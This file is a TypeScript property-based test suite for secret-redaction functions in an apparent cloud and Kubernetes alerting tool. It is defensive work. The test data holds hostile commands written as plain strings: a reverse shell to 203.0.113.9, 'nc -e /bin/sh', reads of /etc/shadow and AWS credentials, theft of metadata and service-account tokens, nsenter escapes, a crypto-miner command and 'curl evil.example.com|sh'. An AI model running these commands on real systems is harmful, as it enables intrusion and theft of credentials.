import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redact, redactCommand, redactUri } from '../../core/redact.ts';
import { alertOf } from '../support/build.ts';

const from = (alphabet: string, minLength = 20, maxLength = 40) =>
  fc.string({ unit: fc.constantFrom(...alphabet), minLength, maxLength });

const LETTERS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
const base64ish = from(`${LETTERS}0123456789+/`).map((text) => `x${text}`);
const hex = from('0123456789abcdef').filter((text) => /\d/.test(text) && /[a-f]/.test(text));
const uuid = fc.uuid();
const phrase = from('abcdefghijklmnopqrstuvwxyz', 12, 30);
const punctuated = from(`${LETTERS}0123456789!%+,./:@^_~-`, 12, 40).map((text) => `Q${text}9z`);
const secret = fc.oneof(base64ish, hex, uuid, phrase, punctuated);
const uuidOf = (digits: string) =>
  digits.padEnd(32, 'a').replace(/^(.{8})(.{4})(.{4})(.{4})(.{12}).*/, '$1-$2-$3-$4-$5');

/** The whole secret is a leak, and so is any piece of it that would do to search for the rest. */
function expectHidden(output: string, planted: string) {
  for (let at = 0; at + 10 <= planted.length; at++) expect(output).not.toContain(planted.slice(at, at + 10));
}

/** Where secrets stand in command lines: as argument lists, `§` for the place. */
const COMMANDS: readonly (readonly string[])[] = [
  ['mysql', '-h', 'db', '--password', '§'],
  ['mysql', '-h', 'db', '--password=§', 'shop'],
  ['mysql', '-u', 'root', '-p§', 'shop'],
  ['sshpass', '-p', '§', 'ssh', 'root@10.0.0.5'],
  ['docker', 'login', '-u', 'bot', '-p', '§', 'registry.example.com'],
  ['curl', '-H', 'Authorization: Bearer §', 'https://api.example.com'],
  ['curl', '-H', 'X-Api-Key: §', 'https://api.example.com'],
  ['curl', '--header', 'Cookie: theme=dark; session=§', 'https://api.example.com'],
  ['curl', '-u', 'bob:§', 'https://api.example.com'],
  ['curl', '-ubob:§', 'https://api.example.com'],
  ['curl', '--user=bob:§', 'https://api.example.com'],
  ['curl', '-d', '{"user":"bob","password":"§"}', 'https://api.example.com'],
  ['curl', '--data-raw', '§', 'https://api.example.com'],
  ['wget', '--header=X-Auth-Token: §', 'https://api.example.com'],
  ['redis-cli', '-h', 'cache', '-a', '§', 'KEYS', '*'],
  ['ldapsearch', '-D', 'cn=admin', '-w', '§'],
  ['zip', '-P', '§', 'out.zip', 'in'],
  ['openssl', 'enc', '-aes-256-cbc', '-k', '§'],
  ['openssl', 'rsa', '-passin', 'pass:§'],
  ['env', 'DB_PASSWORD=§', 'AWS_SECRET_ACCESS_KEY=§', 'psql'],
  ['kubectl', 'create', 'secret', 'generic', 'db', '--from-literal=password=§'],
  ['kubectl', 'create', 'secret', 'generic', 'db', '--from-literal', 'anything=§'],
  ['kubectl', '--token', '§', 'get', 'pods'],
  ['kubectl', '--token=§', 'get', 'pods'],
  ['aws', 'configure', 'set', 'aws_secret_access_key', '§'],
  ['aws', 'secretsmanager', 'put-secret-value', '--secret-string', '§'],
  ['helm', 'upgrade', 'shop', '--set', 'auth.password=§'],
  ['node', 'app.js', '--config={"apiKey":"§"}'],
  ['app', '--dbPassword', '§', '--client-secret=§', '--storage-account-key=§'],
];

describe('redactCommand', () => {
  it.each(COMMANDS.map((argv) => [argv.join(' '), argv] as const))('hides the secret of %s', (_, argv) => {
    fc.assert(
      fc.property(secret, (planted) => {
        const output = redactCommand(argv.map((word) => word.replaceAll('§', () => planted))).join(' ');
        expectHidden(output, planted);
      }),
    );
  });

  const SHELL_WORD = /^[\w@%+=:,./-]+$/;
  const quotes: ((word: string) => string)[] = [
    (word) => (SHELL_WORD.test(word) ? word : `'${word}'`),
    (word) => `'${word}'`,
    (word) => `"${word.replace(/["\\]/g, '\\$&')}"`,
  ];

  it.each(COMMANDS.map((argv) => [argv.join(' '), argv] as const))('hides it in a script too: %s', (_, argv) => {
    fc.assert(
      fc.property(secret, fc.constantFrom(...quotes), (planted, quote) => {
        const line = argv.map((word) => quote(word.replaceAll('§', () => planted))).join(' ');
        const scripts = [
          line,
          `set -e; cd /srv && ${line} | tee log`,
          `sudo sh -c "${line.replace(/["\\]/g, '\\$&')}"`,
        ];
        for (const script of scripts) expectHidden(redactCommand(['sh', '-c', script]).join(' '), planted);
      }),
    );
  });

  it('hides what looks drawn by lot wherever it stands, but for the rare key that looks like a name', () => {
    const keys = Array.from({ length: 1000 }, (_, seed) => {
      const bytes = createHash('sha512').update(`${seed}`).digest();
      const length = 20 + (seed % 21);
      const [hex, base64] = [bytes.toString('hex').slice(0, length), bytes.toString('base64').slice(0, length)];
      return [
        hex,
        base64,
        bytes.toString('base64url').slice(0, length),
        Buffer.from(hex).toString('base64'),
        uuidOf(hex),
      ];
    }).flat();
    const shown = keys.filter((key) =>
      [
        ['echo', key],
        ['sh', '-c', `echo ${key} | base64 -d > /tmp/k`],
      ].some((argv) => redactCommand(argv).join(' ').includes(key)),
    );
    expect(shown.length / keys.length).toBeLessThan(0.003);
  });

  it('hides a secret with blanks in it to its end', () => {
    const secrets = ['correct horse battery staple', 'a; b && c'];
    for (const planted of secrets) {
      expect(redactCommand(['mysql', '--password', planted, 'shop'])).toEqual([
        'mysql',
        '--password',
        '[redacted]',
        'shop',
      ]);
      expect(redactCommand(['mysql', `--password=${planted}`, 'shop'])).toEqual([
        'mysql',
        '--password=[redacted]',
        'shop',
      ]);
      expect(redactCommand(['sh', '-c', `mysql --password '${planted}' shop`])[2]).toBe(
        'mysql --password [redacted] shop',
      );
      expect(redactCommand(['sh', '-c', `mysql -u root -p"${planted}" shop`])[2]).toBe(
        'mysql -u root -p[redacted] shop',
      );
    }
  });

  it('hides the lines of a private key in an argument', () => {
    const key = '-----BEGIN RSA PRIVATE KEY-----\nMIIabc+/def ghi\nxyz/+abc\n-----END RSA PRIVATE KEY-----';
    expect(redactCommand(['sh', '-c', `echo "${key}" > id_rsa`])[2]).toBe('echo "[redacted]" > id_rsa');
    expect(redactCommand([key.slice(0, 60)])).toEqual(['[redacted]']);
  });

  const READABLE = [
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'curl -s -X PUT 169.254.169.254/latest/api/token',
    'kubectl get pods -n kube-system -o wide',
    'kubectl auth can-i --list --as=system:serviceaccount:vault:token-reviewer',
    'kubectl get secret db-password -o yaml',
    'kubectl run x --image=public.ecr.aws/docker/library/busybox:1.37 --privileged',
    'docker run -d -p 8080:80 -v /:/host quay.io/oauth2-proxy/oauth2-proxy:v7.4.0',
    'nsenter -t 1 -m -u -i -n -p -- bash',
    'nsenter --target 1 --mount --uts --ipc --net --pid -- chroot /host',
    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    'nc -e /bin/sh 203.0.113.9 -p 4444',
    'ssh -p 2222 root@ip-10-0-1-23.eu-west-1.compute.internal',
    'nmap -p 1-65535,8443 10.0.0.0/16',
    'nmap -p- -Pn ec2-203-0-113-25.eu-west-1.compute.amazonaws.com',
    'find / -perm -4000 -type f -print0 -path /proc -prune',
    'mkdir -p /tmp/build/out && cp -p a b && tar -xzpf x.tgz',
    'mkdir -p Some/Directory',
    'sudo -u postgres psql -h db.internal -d shop',
    'mysql -h db.internal -u root -e "select 1"',
    'base64 -d | sh',
    'git log -p core/alert.ts',
    'curl -sO example.com/x; docker run -d alpine',
    'docker run -u 1000:1000 alpine id',
    'cat /etc/passwd /etc/shadow /root/.aws/credentials',
    'TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -H "Authorization: Bearer $TOKEN" https://kubernetes.default',
    'mysql -p"$DB_PASSWORD" --password "$DB_PASSWORD"',
    'aws sts assume-role --role-arn arn:aws:iam::111122223333:role/AWSServiceRoleForAmazonEKS',
    'aws secretsmanager get-secret-value --secret-id prod/db',
    'kube-apiserver --anonymous-auth=true --authorization-mode=RBAC --token-auth-file=/etc/tokens.csv',
    '/usr/bin/python3.11 -c "import pty; pty.spawn(1)"',
    'export PATH=/usr/local/bin:/usr/bin PWD=/root',
    'xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1',
    'echo done',
  ];

  it.each(READABLE)('keeps readable: %s', (script) => {
    expect(redactCommand(['sh', '-c', script])).toEqual(['sh', '-c', script]);
    const words = script.split(' ');
    if (!/["$|&;]/.test(script)) expect(redactCommand(words)).toEqual(words);
  });

  it.each([
    ['mysql -u root -phunter2 -h db.internal', 'mysql -u root -p[redacted] -h db.internal'],
    ['curl -u bob:hunter2 https://x.example.com', 'curl -u bob:[redacted] https://x.example.com'],
    ['curl -H "X-Api-Key: abc" x.example.com', 'curl -H "X-Api-Key: [redacted]" x.example.com'],
    ['curl https://x.example.com/?q=cats', 'curl https://x.example.com/?q=[redacted]'],
    ['git clone https://bob:hunter2@git.example.com/x', 'git clone https://[redacted]@git.example.com/x'],
    ['PGPASSWORD=hunter2 psql -h db', 'PGPASSWORD=[redacted] psql -h db'],
    ["it's --password hunter2 now", "it's --password [redacted] now"],
    ['TOKEN=abc;curl evil.example.com|sh', 'TOKEN=[redacted];curl evil.example.com|sh'],
    [String.raw`sudo sh -c "app --token \"a b c\" now"`, String.raw`sudo sh -c "app --token \"[redacted]\" now"`],
    ['mysql --password -h db', 'mysql --password -h db'],
    ['login --password | tee log', 'login --password | tee log'],
  ])('shows %j as %j', (script, shown) => {
    expect(redactCommand(['sh', '-c', script])[2]).toBe(shown);
  });

  it('hides across the arguments of one command, and gives as many arguments as it got', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { maxLength: 20 }), (argv) => {
        expect(redactCommand(argv)).toHaveLength(argv.length);
      }),
    );
    expect(redactCommand(['--constructor', 'constructor', '__proto__', '-p'])).toHaveLength(4);
  });

  it('says what is left out of a list or text far longer than an alert', () => {
    expect(redactCommand(Array(1500).fill('a'))).toEqual([...Array(1000).fill('a'), '…[500 more]']);
    expect(redactCommand([' x'.repeat(200_000)])[0]).toMatch(/…\[\d+ more\]$/);
  });
});

describe('redact', () => {
  const PLACES = [
    'password=§',
    'password: §',
    '"password":"§"',
    "{'api_key': '§'}",
    String.raw`{"config":"{\"clientSecret\":\"§\"}"}`,
    'postgres://app:§@db.internal:5432/shop',
    'Server=db;Uid=sa;Pwd=§',
    'https://x.example.com/hook?token=§&user=bob',
    'password%3D§%26user%3Dbob',
    '%22password%22%3A%22§%22',
    'Authorization: Token §',
    'Authorization: Basic §',
    'authorization:§',
    'Set-Cookie: theme=dark; sid=§',
    'AWS_SESSION_TOKEN=§',
    'a=b.password=§',
    'eyJhbGciOiJSUzI1NiJ9.§.c2ln',
    '%20eyJhbGciOiJSUzI1NiJ9§',
    'k8s-aws-v1.§',
    ...['ghp_§', 'github_pat_§', 'glpat-§', 'npm_§', 'hvs.§', 'xoxb-§', 'sk-§', 'rk_live_§', 'SG.§', 'AIza§'],
    ...['bearer a1§', 'BEARER a1§', 'basic a1§', "identified by '§'", "PASSWORD '§'"],
  ];
  const wordSecret = fc.oneof(hex, uuid, from(`${LETTERS}0123456789`));

  it.each(PLACES)('hides what stands for § in %s', (place) => {
    fc.assert(
      fc.property(wordSecret, (planted) => {
        expectHidden(redact(place.replace('§', planted)), planted);
        expectHidden(redact(`before ${place.replace('§', planted)} after`), planted);
      }),
    );
  });

  it('hides a secret that begins as a plain word does', () => {
    expect(redact('password=no-abc123, token: true.dat, Secret=Basic1')).toBe(
      'password=[redacted] token: [redacted] Secret=[redacted]',
    );
    expect(redact('{"token":true,"secret":null}, auth=none.')).toBe('{"token":true,"secret":null}, auth=none.');
  });

  it('hides a service account token and half a private key', () => {
    const token = `${['{"alg":"RS256"}', '{"sub":"system:serviceaccount:a:b"}'].map((part) => Buffer.from(part).toString('base64url')).join('.')}.c2ln`;
    expect(redact(`got ${token}, then`)).toBe('got [redacted], then');
    expect(redact('-----BEGIN EC PRIVATE KEY-----\nMHcC')).toBe('[redacted]');
    expect(redact("ALTER USER shop IDENTIFIED BY 'hunter 2'")).toBe('ALTER USER shop IDENTIFIED BY [redacted]');
  });

  it.each([
    'system:serviceaccount:external-secrets:external-secrets',
    'system:serviceaccount:vault-token:default',
    'secretsmanager:GetSecretValue',
    'arn:aws:secretsmanager:eu-west-1:111122223333:secret:prod/db-AbCdEf',
    'quay.io/oauth2-proxy/oauth2-proxy:v7.4.0',
    'Service account token used outside the cluster',
    'basic authentication and a bearer token',
    'automountServiceAccountToken: false',
    'secretName: db-password',
    'shareProcessNamespace beside a Secret: pod',
    'https://cdn.example.com/@scope/pkg',
    'http://dashboard.internal:8080/x@y',
    'keyJournalManager',
    'monkeyJobRunner',
    'RBAC: allowed by ClusterRoleBinding "auth-reader" of ClusterRole "token-reviewer"',
    'author=bob; --author bob; certificate-authority=/ca.crt',
    'access_key_id=AKIAIOSFODNN7EXAMPLE',
  ])('keeps readable: %s', (text) => {
    expect(redact(text)).toBe(text);
  });
});

describe('redactUri', () => {
  const exec = '/api/v1/namespaces/shop/pods/web-0/exec';

  it('hides the values of parameters that the API server does not define', () => {
    fc.assert(
      fc.property(secret, (planted) => {
        const value = encodeURIComponent(planted);
        for (const query of [`access_token=${value}`, `x=${value}&watch=true`, `stdin=true&a.b=${value}`, `${value}`])
          expectHidden(redactUri(`${exec}?${query}`), planted);
      }),
    );
  });

  it('reads the words of a command together', () => {
    fc.assert(
      fc.property(secret, (planted) => {
        const value = encodeURIComponent(planted);
        for (const flag of ['-p', '--password'])
          expectHidden(redactUri(`${exec}?command=mysql&command=${flag}&stdin=true&command=${value}`), planted);
        const script = encodeURIComponent(`mysql --password='${planted}'`);
        expectHidden(redactUri(`${exec}?command=sh&command=-c&command=${script}`), planted);
      }),
    );
  });

  it.each([
    [
      `${exec}?command=sh&command=-c&command=cat%20%2Fetc%2Fshadow&container=web&stdin=true&tty=true`,
      `${exec}?command=sh&command=-c&command=cat+/etc/shadow&container=web&stdin=true&tty=true`,
    ],
    [
      '/api/v1/secrets?limit=500&labelSelector=app%3Dauth-service',
      '/api/v1/secrets?limit=500&labelSelector=app%3Dauth-service',
    ],
    [
      '/api/v1/namespaces/a/services/https:auth-token:8443/proxy/',
      '/api/v1/namespaces/a/services/https:auth-token:8443/proxy/',
    ],
    ['/version', '/version'],
    ['', ''],
    ['/x?', '/x?[redacted]'],
    ['/x?a=&b', '/x?a=&[redacted]'],
    [`${exec}?command=%ZZ`, `${exec}?command=[redacted]`],
  ])('shows %s as %s', (uri, shown) => {
    expect(redactUri(uri)).toBe(shown);
  });

  it('lets no command forge a parameter', () => {
    expect(redactUri(`${exec}?command=id%26stdin%23`)).toBe(`${exec}?command=id%26stdin%23`);
  });

  it('never throws', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'/?&=%+command2F \ud800') }), (uri) => {
        expect(typeof redactUri(uri)).toBe('string');
      }),
    );
  });
});

describe('an alert', () => {
  it('shows no secret that its event carried in a user agent, a query, a command or a name', () => {
    fc.assert(
      fc.property(secret, (planted) => {
        const alert = alertOf(
          {
            title: `alice ran mysql --password=${planted}`,
            severityReason: `the command holds token: ${planted}`,
            evidence: { command: redactCommand(['mysql', '-p', planted]), env: [`DB_PASSWORD=${planted}`] },
          },
          {
            requestURI: `${exec()}?command=mysql&command=-p&command=${encodeURIComponent(planted)}&t=${encodeURIComponent(planted)}`,
            userAgent: `curl/8 (https://bob:${encodeURIComponent(planted)}@x.example.com)`,
          },
        );
        expectHidden(JSON.stringify(alert), planted);
        expectHidden(JSON.stringify(alert), encodeURIComponent(planted));
      }),
    );
  });

  const exec = () => '/api/v1/namespaces/shop/pods/web-0/exec';
});

describe('redaction of adversarial text', () => {
  const SIZE = 100_000;
  const repeated = [
    'a',
    'A',
    '0',
    '-',
    '=',
    '.',
    '%',
    '\\',
    '"',
    "'",
    ' ',
    '\n',
    'eyJ',
    'eyJ-',
    '-eyJaaaaa',
    'password',
    'password=',
    'password ',
    'password: ',
    'password="',
    'token.',
    'a=',
    'a="',
    "a='",
    'a:',
    '://',
    '://a:',
    '://a@',
    '?a=',
    '&a=',
    '?',
    'Bearer ',
    'Bearer',
    'authorization:',
    'authorization: ',
    'cookie: ',
    'identified by ',
    'identified ',
    '-----BEGIN A-----',
    '-----BEGIN ',
    '-----END ',
    'ghp_',
    '%3D',
    'a%3D',
    '%22',
    '\\"',
    'a\\"',
    '-p ',
    '--password ',
    '-d ',
    'curl -d ',
    'curl ',
    '$(',
    '`',
    '\'"',
    'aA1',
    'a1/',
    '_',
  ];

  it.each(repeated)(
    'takes no longer per character than on plain text, for %j',
    (unit) => {
      const text = unit.repeat(SIZE / unit.length);
      const uri = `/api?command=${text}&${text}=${text}`;
      // A quadratic pattern takes many seconds for this and fails by the test's own deadline.
      for (const one of [text, `--x${text}!`, ` "${text}`]) {
        redact(one);
        redactCommand([one]);
      }
      redactUri(uri);
      redactUri(text);
    },
    2000,
  );
});
